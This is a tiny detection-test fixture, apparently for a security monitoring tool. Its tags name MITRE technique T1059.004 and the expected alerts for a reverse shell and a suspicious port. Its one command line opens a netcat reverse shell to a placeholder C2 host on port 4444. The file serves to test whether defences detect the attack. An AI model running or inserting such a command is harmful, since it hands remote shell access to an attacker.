# category: suspicious-network
# technique: T1059.004
# art: yes
# expect: reverse-shell suspicious-port
# net: yes
# uptime: 6
# desc: an intruder with exec access starts a reverse shell to its C2 with busybox nc -e
nc $C2 4444 -e /bin/sh
